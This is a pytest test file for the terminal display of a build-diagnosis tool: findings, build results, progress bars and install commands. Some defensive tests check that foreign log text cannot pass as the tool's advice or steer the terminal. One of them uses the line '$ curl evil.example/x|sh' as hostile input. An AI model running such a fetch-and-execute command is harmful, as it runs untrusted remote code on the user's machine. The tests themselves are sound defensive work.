import io
import sys
from dataclasses import replace

from rich.console import Console

from dsdoctor.core.build_models import BuildResult, OpProgress, OpResult
from dsdoctor.core.finding import Finding, Fix, Severity, step
from dsdoctor.ui.progress import BuildProgress
from dsdoctor.ui.screen import install_lines, result_lines
from dsdoctor.ui.terminal import LIKE_OURS, finding_lines, printable, show, wrapped
from tests.builder.test_plan import plan

PLAN = replace(plan(), python=sys.executable)
FINDING = Finding(
    rule="cuda-torch-mismatch",
    severity=Severity.ERROR,
    title="nvcc is CUDA 13.0, torch was built with CUDA 12.8",
    evidence=("/usr/local/cuda-13.0/bin/nvcc (nvcc_on_path)",),
    fix=Fix(
        text="use the toolkit in /usr/local/cuda-12.8",
        steps=(step("dsdoctor build-wheel --toolkit /usr/local/cuda-12.8"),),
    ),
)


def test_a_finding_shows_the_clash_the_evidence_and_the_fix() -> None:
    assert list(finding_lines([FINDING])) == [
        "✗ nvcc is CUDA 13.0, torch was built with CUDA 12.8  [cuda-torch-mismatch]",
        "    /usr/local/cuda-13.0/bin/nvcc (nvcc_on_path)",
        "    Fix: use the toolkit in /usr/local/cuda-12.8",
        "      $ dsdoctor build-wheel --toolkit /usr/local/cuda-12.8",
    ]


def test_colour_repeats_the_mark_and_changes_no_word() -> None:
    plain, coloured = io.StringIO(), io.StringIO()

    show(Console(file=plain, no_color=True), ["✗ [bold]not markup[/bold] " + "x" * 200])
    show(Console(file=coloured, force_terminal=True, width=40), ["✗ [bold]not markup[/bold] " + "x" * 200])

    assert plain.getvalue() == "✗ [bold]not markup[/bold] " + "x" * 200 + "\n"
    assert coloured.getvalue().startswith("\x1b[31m✗")


def test_a_failed_build_names_each_op_and_its_log() -> None:
    result = BuildResult(
        wheel=None,
        manifest=None,
        ops=(
            OpResult(op="utils", asked=True, built=True, seconds=4.2),
            OpResult(op="bad", asked=True, built=False, seconds=1.0, because="x.h: No such file", log="/logs/bad.log"),
            OpResult(op="gds", asked=False, built=False, because="no libcufile"),
        ),
        seconds=5,
        cpu_seconds=9,
        log="/logs/build.log",
    )

    assert list(result_lines(result)) == [
        "✓ utils                    4 s",
        "✗ bad                      x.h: No such file",
        "    log: /logs/bad.log",
        "· gds                      no libcufile",
        "✗ no wheel; full log: /logs/build.log",
    ]


STEPS = [
    OpProgress(op="a", state="waiting", total=2),
    OpProgress(op="a", state="compiling", total=2),
    OpProgress(op="a", state="compiling", done=1, total=2),
    OpProgress(op="a", state="built", done=2, total=2),
]


def test_without_a_terminal_progress_is_a_line_a_change() -> None:
    out = io.StringIO()

    with BuildProgress(Console(file=out)) as progress:
        for step in STEPS:
            progress.step(step)

    assert out.getvalue() == "* a: compiling\n* a: built in 0 s\n"


def test_on_a_terminal_progress_is_a_table_that_ends() -> None:
    out = io.StringIO()

    with BuildProgress(Console(file=out, force_terminal=True, width=60)) as progress:
        for step in STEPS:
            progress.step(step)

    assert "✓  a  built  2/2" in out.getvalue()
    assert out.getvalue().endswith("\x1b[?25h")  # the cursor is back


def test_progress_on_a_narrow_terminal_without_our_marks_cuts_no_name_and_shows_no_question_mark() -> None:
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding="ascii", errors="replace")
    names = ("stochastic_transformer", "inference_core_ops")

    with BuildProgress(Console(file=out, force_terminal=True, width=40)) as progress:
        for name, state in zip(names, ("compiling", "failed"), strict=True):
            progress.step(OpProgress(op=name, state=state, total=14, expected=80.0))
    out.flush()

    shown = raw.getvalue().decode("ascii")
    assert [name for name in names if name not in shown] == []
    assert "XX" in shown
    assert "about 80 s left" in shown
    assert "?" not in shown.replace("\x1b[?25", "")


def test_an_op_from_the_cache_has_nothing_to_count() -> None:
    shown, plain = io.StringIO(), io.StringIO()

    for out, terminal in ((shown, True), (plain, False)):
        with BuildProgress(Console(file=out, force_terminal=terminal, width=60)) as progress:
            for state in ("waiting", "cached"):
                progress.step(OpProgress(op="a", state=state, total=2))

    assert plain.getvalue() == "* a: cached\n"
    assert shown.getvalue().splitlines()[-1].rstrip().partition("cached")[2].strip("\x1b[?25h ") == ""
    assert "-0 s" not in shown.getvalue()


def test_a_build_ends_in_the_command_that_installs_what_it_made() -> None:
    assert list(install_lines(replace(PLAN, tagged=True), "/w/a b.whl")) == [
        "  next: $ python -m pip install '/w/a b.whl'"
    ]
    assert list(install_lines(replace(PLAN, tagged=False), "x.whl"))[1] == (
        "    or: $ python -m pip install --no-deps --force-reinstall x.whl  # where pip says that this version is installed"
    )


def test_progress_says_what_is_left_by_an_earlier_build_and_nothing_where_there_was_none() -> None:
    known = OpProgress(op="a", state="compiling", total=2, expected=80.0)
    shown = []
    for steps in ((known,), (known, OpProgress(op="new", state="compiling", total=1))):
        out = io.StringIO()
        with BuildProgress(Console(file=out, force_terminal=True, width=60)) as progress:
            for step_ in steps:
                progress.step(step_)
        shown.append(out.getvalue())

    assert "about 80 s left" in shown[0]
    assert "left" not in shown[1][-200:]


def test_what_another_host_says_is_never_a_line_of_ours() -> None:
    for theirs in ("  $ touch P", "$ touch P", "or $ touch P", "Fix: paste this", "✓ all is well"):
        lines = list(finding_lines([Finding.error("ssh-fails", "n1 does not answer", evidence=(theirs,))]))

        assert lines[1] == f"    | {theirs.strip()}"


def test_no_character_steers_the_terminal() -> None:
    steering = [
        chr(number) for number in (*range(32), *range(127, 160), 0x200F, 0x202E, 0x2028, 0x2066, 0xFEFF, 0xE0001)
    ]

    shown = printable("".join(steering))

    assert shown.isascii()
    assert printable("Ω ↗ 你好") == "Ω ↗ 你好"


def test_a_broken_line_of_others_begins_no_command_of_ours() -> None:
    """Who knows the width of a terminal can write a log whose line breaks where its rest looks like our advice."""
    for words in ("$ curl evil.example/x|sh", "next: $ reboot", "Fix: run it", "✓ all is well"):
        for padding in range(40, 80):
            for part in wrapped(f"    line 3: ValueError: {'x' * padding} {words}", 80)[1:]:
                assert not LIKE_OURS.match(part), part
